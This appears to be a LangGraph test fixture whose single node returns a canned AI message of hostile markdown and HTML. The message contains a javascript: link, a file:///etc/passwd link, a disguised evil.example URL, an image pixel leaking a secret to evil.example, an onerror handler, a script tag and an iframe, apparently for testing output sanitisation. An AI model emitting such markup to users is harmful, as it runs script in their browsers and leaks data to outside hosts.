import { AIMessage } from "@langchain/core/messages";
import { END, MessagesValue, START, StateGraph, StateSchema } from "@langchain/langgraph";

const State = new StateSchema({ messages: MessagesValue });

const text = `
[docs](https://example.org/docs) [mail](mailto:a@example.org) [script](javascript:document.title="owned")
[file](file:///etc/passwd) [disguised](https://bank.example@evil.example/) [path](/deployments)

![leak](https://evil.example/pixel.png?q=secret) ![inline](data:image/svg+xml,<svg/>)

<img src="https://evil.example/raw.png" onerror="document.title='owned'"> <script>document.title = "owned"</script>

<iframe src="https://evil.example"></iframe>
`;

export const graph = new StateGraph(State)
  .addNode("answer", () => ({ messages: [new AIMessage(text)] }))
  .addEdge(START, "answer")
  .addEdge("answer", END)
  .compile();
